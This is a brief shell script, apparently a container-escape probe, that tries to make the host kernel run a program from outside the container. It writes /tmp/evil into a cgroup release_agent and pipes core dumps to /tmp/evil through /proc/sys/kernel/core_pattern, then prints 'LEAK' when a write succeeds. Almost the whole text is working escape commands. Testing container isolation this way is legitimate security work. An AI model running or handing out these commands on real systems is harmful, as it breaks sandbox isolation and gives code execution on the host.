# Asks the kernel to run a program outside when a control group empties.
mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg 2>/dev/null && echo /tmp/evil > /tmp/cg/release_agent
echo '|/tmp/evil' > /proc/sys/kernel/core_pattern 2>/dev/null && echo LEAK
exit 0
